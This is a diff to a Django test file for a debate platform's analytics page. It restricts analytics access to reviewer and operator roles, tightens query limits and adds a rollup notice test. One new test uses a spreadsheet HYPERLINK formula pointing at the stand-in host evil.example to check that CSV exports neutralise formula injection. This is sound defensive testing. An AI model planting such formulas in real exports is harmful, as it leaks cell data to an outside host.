@@ -10,14 +10,18 @@ import json
 from html import unescape
 
 import pytest
+from django.core.management import call_command
 from django.urls import reverse
 from django.utils import timezone
 
+from accounts.roles import OPERATOR, REVIEWER
+from analytics.models import RollupState
 from debates import running, services
-from debates.models import Debate
+from debates.models import Debate, Participant
 from reviews import services as review_services
 from reviews.models import ReviewItem
 from schedules import services as schedule_services
+from schedules.models import DebateSchedule
 from tests.analytics import bulk
 from tests.debates.test_views import text_of
 from tests.factories import StaffFactory, UserFactory
@@ -187,28 +191,45 @@ def test_bad_filters_are_refused_with_what_to_fix(staff_client, stored):
     assert staff_client.get("/analytics/nonsense.csv").status_code == 404
 
 
-def test_only_staff_see_analytics_and_only_staff_get_the_header_link(client, db):
+def test_only_reviewers_and_operators_see_analytics_and_get_the_header_link(client, db):
     assert client.get(URL).status_code == 302
     assert client.get("/analytics/failures.csv").status_code == 302
-    user = UserFactory()
-    client.force_login(user)
-    assert client.get(URL).status_code == 403
-    assert client.get("/analytics/failures.csv").status_code == 403
-    assert 'href="/analytics/"' not in client.get(reverse("debates:list")).content.decode()
-    client.force_login(StaffFactory())
-    assert 'href="/analytics/"' in client.get(reverse("debates:list")).content.decode()
+    # Plain staff (the admin and no role) read no figures across users.
+    for user in (UserFactory(), UserFactory(username="plain-staff", is_staff=True)):
+        client.force_login(user)
+        assert client.get(URL).status_code == 403
+        assert client.get("/analytics/failures.csv").status_code == 403
+        assert 'href="/analytics/"' not in client.get(reverse("debates:list")).content.decode()
+    for role in (REVIEWER, OPERATOR):
+        client.force_login(StaffFactory(username=role.lower(), roles=[role]))
+        assert client.get(URL).status_code == 200
+        assert 'href="/analytics/"' in client.get(reverse("debates:list")).content.decode()
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")'
+
+
+def test_names_in_the_csvs_are_written_as_text_never_as_formulas(staff_client, schedule, stored):
+    DebateSchedule.objects.filter(pk=schedule.pk).update(name=FORMULA)
+    Participant.objects.filter(slug="safety").update(name=f"@{FORMULA[1:]}")
+    cells = []
+    for chart in ("decisions-by-schedule", "position-changes"):
+        body = staff_client.get(f"/analytics/{chart}.csv").content.decode()
+        cells += [cell for row in csv.reader(io.StringIO(body)) for cell in row]
+    assert f"'{FORMULA}" in cells and f"'@{FORMULA[1:]}" in cells
+    assert not [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r"))]
 
 
 def test_the_page_reads_10000_debates_in_a_bounded_number_of_queries(
     staff_client, schedule, django_assert_max_num_queries
 ):
     bulk.seed(10_000, schedule=schedule)
-    with django_assert_max_num_queries(20):
+    with django_assert_max_num_queries(15):
         response = staff_client.get(URL)
     assert response.status_code == 200
     by_protocol = series_of(chart_data(response, "decisions-by-protocol"))
     assert sum(sum(v) for v in by_protocol.values()) == 10_000 - 200  # 1 in 50 failed
-    with django_assert_max_num_queries(20):
+    with django_assert_max_num_queries(16):
         response = staff_client.get(URL, {"schedule": schedule.pk, "model": bulk.MODELS[0]})
     assert response.status_code == 200
     by_schedule = series_of(chart_data(response, "decisions-by-schedule"))
@@ -242,3 +263,13 @@ def test_a_verdict_given_after_a_view_is_counted_at_the_next_view(staff_client, 
         )
     after = series_of(chart_data(staff_client.get(URL), "ground-truth"))
     assert after["debate"][0] == 1.0
+
+
+def test_the_page_says_when_finished_debates_are_not_yet_in_the_daily_figures(staff_client, stored):
+    RollupState.objects.update(built_at=None)  # as after the upgrade, with debates finished
+    text = unescape(text_of(staff_client.get(URL)))
+    assert "run manage.py rollup_analytics once" in text
+    call_command("rollup_analytics", stdout=io.StringIO())
+    response = staff_client.get(URL)
+    assert "rollup_analytics" not in unescape(text_of(response))
+    assert sum(series_of(chart_data(response, "decisions-by-protocol"))["REFUSE"]) == 2
